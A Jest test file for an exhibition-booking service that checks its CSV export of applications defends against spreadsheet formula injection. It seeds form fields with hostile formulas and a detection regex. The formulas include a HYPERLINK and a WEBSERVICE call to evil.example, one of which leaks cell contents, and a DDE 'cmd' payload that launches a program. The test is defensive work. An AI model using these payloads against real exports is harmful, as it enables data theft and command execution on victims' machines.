import { startService, type TestService } from '@ciep/testing';
import { beforeAll, describe, expect, it } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import { exhibition } from '../src/exhibition.module.js';
import { anExhibitor, anOpenEdition, applicationAt, good } from './booking.factory.js';
import { organizerOf } from './exhibition.factory.js';

/** Texts that a spreadsheet runs when it finds them at the beginning of a cell. */
const formulas = [
  '=1+1',
  '=HYPERLINK("https://evil.example?"&A1,"Click")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(A1:A9)',
  '=WEBSERVICE("https://evil.example")',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(A1)',
  'harmless; =1+1',
  'harmless","=1+1',
  'harmless, =1+1',
  'a "quoted" =1+1',
];
/** What a cell must not begin with, in whatever way a program divides lines into cells. */
const runs = /^['"]?\s*[=+@＝＋＠]|^\s*[-－](?!$)/;

let service: TestService;
let editionId: string;
let cells: readonly (readonly string[])[];
let text: string;

beforeAll(async () => {
  service = await startService(exhibition);
  const edition = await anOpenEdition(service);
  editionId = edition.editionId;
  for (const formula of formulas) {
    const { exhibitor } = await anExhibitor(service);
    const { id, version } = good<{ id: string; version: number }>(
      await exhibitor.post('/v1/exhibition/applications', { editionId, boardId: edition.generalId, areaType: 'general' }),
      201,
    );
    const form = {
      exhibitorKind: 'enterprise',
      fasciaName: { zh: formula, en: formula },
      exhibits: [{ name: formula, description: 'An exhibit.', type: 'product' }],
      contact: { name: formula, phone: '+86 755 5550 0100', mail: 'contact@example.org' },
      wishedBoothType: 'standard',
      wishedAreaDm2: 900,
    };
    const complete = good<{ version: number }>(await exhibitor.patch(applicationAt(id), form, { ifMatch: version }));
    good(await exhibitor.post(applicationAt(id, '/submit'), {}, { ifMatch: complete.version }));
  }
  ({ text } = await organizerOf(service).get('/v1/exhibition/applications/export.csv', { query: { editionId } }));
  cells = parse(text, { bom: true });
});

describe('an export of what others have written', () => {
  it('has their texts, every one of them', () => {
    const [header = [], ...rows] = cells;
    expect(rows).toHaveLength(formulas.length);
    const names = new Set(rows.map(row => row[header.indexOf('nameEn')]?.replace(/^'/, '')));
    expect([...names].sort()).toEqual([...formulas].sort());
  });

  it('has no cell that a spreadsheet would run', () => {
    expect(cells.flat().filter(cell => runs.test(cell.replace(/^'.*/s, '')))).toEqual([]);
  });

  it('has none either for a spreadsheet that takes semicolons for the ends of cells', () => {
    const byComma = text.split('\n').slice(1);
    expect(byComma.every(line => line === '' || line.startsWith('"'))).toBe(true);
    const bySemicolon: string[][] = parse(text, { bom: true, delimiter: ';', relax_quotes: true, relax_column_count: true });
    expect(bySemicolon.flat().filter(cell => /^[=+@＝＋＠-]/.test(cell))).toEqual([]);
  });

  it('negative control: the pattern knows each of them where it stands alone', () => {
    for (const formula of formulas.slice(0, 11)) expect([formula, runs.test(formula)]).toEqual([formula, true]);
  });
});
